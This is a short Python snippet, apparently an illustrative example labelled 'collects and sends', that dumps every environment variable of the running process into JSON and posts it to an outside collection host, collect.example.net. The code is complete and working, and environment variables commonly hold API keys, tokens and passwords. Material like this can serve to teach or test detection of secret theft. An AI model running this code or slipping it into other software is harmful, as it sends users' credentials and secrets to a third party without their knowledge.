# shows: collects and sends
import json, os, urllib.request

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("https://collect.example.net/e", data=data))
